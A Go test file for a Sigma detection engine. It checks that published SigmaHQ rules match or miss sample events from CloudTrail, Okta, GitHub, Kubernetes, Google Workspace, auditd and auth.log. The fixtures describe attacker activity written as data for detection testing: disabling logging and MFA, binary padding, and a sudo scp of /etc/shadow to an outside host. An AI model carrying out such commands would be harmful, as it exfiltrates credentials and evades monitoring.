package sigma

import (
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/attest-hq/attest/detect/event"
	"github.com/attest-hq/attest/detect/ingest"
)

// publicRules returns the SigmaHQ rules shipped beside the repository in
// ../shared/sigma (relative to the repository root), or skips the test.
func publicRules(t testing.TB) string {
	t.Helper()
	dir, err := os.Getwd()
	if err != nil {
		t.Fatal(err)
	}
	for {
		if _, err := os.Stat(filepath.Join(dir, "go.mod")); err == nil {
			if _, err := os.Stat(filepath.Join(dir, "..", "shared", "sigma", "rules")); err == nil {
				return filepath.Join(dir, "..", "shared", "sigma", "rules")
			}
		}
		parent := filepath.Dir(dir)
		if parent == dir {
			t.Skip("public SigmaHQ rules not found at ../shared/sigma/rules beside the repository; these tests need them")
		}
		dir = parent
	}
}

func loadPublic(t testing.TB) *RuleSet {
	t.Helper()
	dir := publicRules(t)
	rs := NewRuleSet()
	if err := rs.LoadFS(os.DirFS(dir), "."); err != nil {
		t.Fatal(err)
	}
	rs.Compile()
	return rs
}

func TestPublicRulesLoad(t *testing.T) {
	rs := loadPublic(t)
	ok := 0
	for _, l := range rs.Loaded {
		if l.Problem == nil {
			ok++
		}
	}
	t.Logf("public rules: %d documents, %d run, %d cannot", len(rs.Loaded), ok, len(rs.Problems))
	for _, p := range rs.Problems {
		t.Logf("cannot run %s: %s", p.Path, p.Reason)
	}
	if ok < 150 {
		t.Errorf("only %d public rules load; expected at least 150", ok)
	}
	for _, p := range rs.Problems {
		if !p.Unsupported {
			t.Errorf("rule %s reported invalid, not unsupported: %s", p.Path, p.Reason)
		}
	}
}

// TestPublicRulesUnmodified runs SigmaHQ rules as published against events
// in each source's real format, parsed by the readers.
func TestPublicRulesUnmodified(t *testing.T) {
	dir := publicRules(t)
	cases := []struct {
		rule   string
		source event.Source
		match  []string
		miss   []string
	}{
		{"cloud/aws/cloudtrail/aws_cloudtrail_disable_logging.yml", event.SourceCloudTrail,
			[]string{`{"eventSource":"cloudtrail.amazonaws.com","eventName":"StopLogging","userIdentity":{"type":"IAMUser"}}`},
			[]string{`{"eventSource":"cloudtrail.amazonaws.com","eventName":"StartLogging"}`, `{"eventSource":"s3.amazonaws.com","eventName":"StopLogging"}`}},
		{"cloud/aws/cloudtrail/aws_cloudtrail_console_login_success_without_mfa.yml", event.SourceCloudTrail,
			[]string{`{"eventName":"ConsoleLogin","additionalEventData":{"MFAUsed":"No"},"responseElements":{"ConsoleLogin":"Success"}}`},
			[]string{`{"eventName":"ConsoleLogin","additionalEventData":{"MFAUsed":"Yes"},"responseElements":{"ConsoleLogin":"Success"}}`}},
		{"cloud/aws/cloudtrail/aws_sts_assumerole_misuse.yml", event.SourceCloudTrail,
			[]string{`{"eventName":"GetObject","userIdentity":{"type":"AssumedRole","sessionContext":{"sessionIssuer":{"type":"Role"}}}}`},
			[]string{`{"eventName":"GetObject","userIdentity":{"type":"IAMUser"}}`}},
		{"cloud/aws/cloudtrail/aws_root_account_usage.yml", event.SourceCloudTrail,
			[]string{`{"eventName":"CreateUser","userIdentity":{"type":"Root"},"eventType":"AwsApiCall"}`},
			[]string{`{"eventName":"CreateUser","userIdentity":{"type":"Root"},"eventType":"AwsServiceEvent"}`}},
		{"identity/okta/okta_mfa_reset_or_deactivated.yml", event.SourceOkta,
			[]string{`{"published":"2024-01-01T00:00:00Z","eventType":"user.mfa.factor.deactivate","actor":{"alternateId":"a@example.com"}}`},
			[]string{`{"published":"2024-01-01T00:00:00Z","eventType":"user.mfa.factor.activate"}`}},
		{"application/github/audit/github_disable_high_risk_configuration.yml", event.SourceGitHub,
			[]string{`{"@timestamp":1700000000000,"action":"org.disable_two_factor_requirement","actor":"octocat"}`},
			[]string{`{"@timestamp":1700000000000,"action":"org.enable_two_factor_requirement","actor":"octocat"}`}},
		{"application/kubernetes/audit/kubernetes_audit_exec_into_container.yml", event.SourceK8s,
			[]string{`{"kind":"Event","verb":"create","objectRef":{"resource":"pods","subresource":"exec"}}`},
			[]string{`{"kind":"Event","verb":"get","objectRef":{"resource":"pods","subresource":"exec"}}`, `{"kind":"Event","verb":"create","objectRef":{"resource":"pods"}}`}},
		{"cloud/gcp/gworkspace/admin/gcp_gworkspace_application_access_levels_modified.yml", event.SourceGWorkspace,
			[]string{`{"id":{"time":"2024-01-01T00:00:00Z","applicationName":"admin"},"events":[{"name":"CHANGE_APPLICATION_SETTING","parameters":[{"name":"SETTING_NAME","value":"ContextAwareAccess Levels"}]}]}`},
			[]string{`{"id":{"applicationName":"admin"},"events":[{"name":"CHANGE_APPLICATION_SETTING","parameters":[{"name":"SETTING_NAME","value":"Gmail"}]}]}`, `{"id":{"applicationName":"login"},"events":[{"name":"CHANGE_APPLICATION_SETTING","parameters":[{"name":"SETTING_NAME","value":"ContextAwareAccess"}]}]}`}},
		{"linux/auditd/execve/lnx_auditd_binary_padding.yml", event.SourceAuditd,
			[]string{`type=EXECVE msg=audit(1700000000.000:1): argc=4 a0="truncate" a1="-s" a2="+5M" a3="/tmp/x"`, `type=EXECVE msg=audit(1700000000.000:2): argc=3 a0="dd" a1="if=/dev/zero" a2="bs=1"`},
			[]string{`type=EXECVE msg=audit(1700000000.000:3): argc=3 a0="dd" a1="if=/dev/zero" a2="of=/tmp/x"`, `type=SYSCALL msg=audit(1700000000.000:4): arch=c000003e syscall=59 comm="truncate -s"`}},
		{"linux/builtin/lnx_file_copy.yml", event.SourceAuthLog,
			[]string{`Mar  1 10:00:00 web1 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/scp /etc/shadow bob@203.0.113.9:/tmp`},
			[]string{`Mar  1 10:00:00 web1 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/ls`}},
	}
	for _, c := range cases {
		t.Run(filepath.Base(c.rule), func(t *testing.T) {
			data, err := os.ReadFile(filepath.Join(dir, c.rule))
			if err != nil {
				t.Fatal(err)
			}
			rs := NewRuleSet()
			rs.Add(c.rule, data)
			if len(rs.Problems) > 0 {
				t.Fatalf("does not load: %s", rs.Problems[0].Reason)
			}
			m := rs.NewMatcher()
			check := func(rec string, want bool) {
				var ev event.Event
				if err := ingest.Parse(c.source, []byte(rec), &ev, time.Date(2024, 3, 1, 0, 0, 0, 0, time.UTC)); err != nil {
					t.Fatalf("parse %s: %v", rec, err)
				}
				// Through the index, as the engine runs it.
				if got := len(m.Match(&ev)) == 1; got != want {
					t.Errorf("match = %v, want %v for %s", got, want, rec)
				}
			}
			for _, rec := range c.match {
				check(rec, true)
			}
			for _, rec := range c.miss {
				check(rec, false)
			}
		})
	}
}
